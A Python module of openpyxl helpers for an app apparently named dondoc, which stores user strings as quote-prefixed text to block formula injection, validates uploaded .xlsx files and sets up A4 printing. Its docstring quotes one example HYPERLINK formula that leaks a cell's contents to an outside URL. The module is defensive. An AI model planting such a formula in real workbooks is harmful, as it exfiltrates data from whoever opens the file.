"""Every cell of every workbook dondoc writes goes through `put`: what a person typed is stored as text.

openpyxl stores a string that starts with "=" as a formula, and Excel or LibreOffice would evaluate it when the
coordinator opens the file (`=HYPERLINK("http://…/?leak="&B2, …)` in a progress report). Here every string is a
string cell, and one that starts like a formula (=, +, -, @, tab, CR) also carries Excel's quote prefix, so the
cell stays text when someone edits it. Numbers and dates stay numbers and dates. dondoc writes no formulas.
"""

from __future__ import annotations

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def put(ws, row: int, column: int, value, style: str | None = None):
    """Write one cell (and its named style) and return it."""
    cell = ws.cell(row=row, column=column)
    cell.value = value
    if style is not None:
        cell.style = style  # before the quote prefix: a named style replaces the cell's whole style
    if isinstance(value, str):
        cell.data_type = "s"
        if value.startswith(FORMULA_LEADS):
            cell.quotePrefix = True
    return cell



def check_upload(f, max_mb: int = 5) -> None:
    """An uploaded workbook as the admin's sheets take it (users, a reorganisation): an .xlsx (a zip, by its first
    bytes, not only its name) of at most `max_mb` MB; ValueError with the message to show otherwise."""
    if f.size > max_mb * 1024 * 1024:
        raise ValueError(f"Tệp quá lớn (tối đa {max_mb} MB).")
    head = f.read(4)
    f.seek(0)
    if not f.name.lower().endswith(".xlsx") or head != b"PK\x03\x04":
        raise ValueError("Chỉ nhận bảng tính Excel .xlsx.")


def print_a4_landscape(ws, area: str, footer_font: str | None = None) -> None:
    """How every printed sheet is set up: A4 landscape, one page wide and as many down as needed, centred, the
    margins of an official document, "Trang 1/3" at the foot."""
    from openpyxl.worksheet.properties import PageSetupProperties

    ws.print_area = area
    ws.page_setup.orientation = ws.ORIENTATION_LANDSCAPE
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.page_setup.fitToWidth, ws.page_setup.fitToHeight = 1, 0
    ws.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    ws.print_options.horizontalCentered = True
    ws.page_margins.left, ws.page_margins.right = 0.6, 0.4
    ws.page_margins.top, ws.page_margins.bottom = 0.6, 0.6
    ws.oddFooter.center.text = "Trang &P/&N"
    if footer_font:
        ws.oddFooter.center.font = footer_font
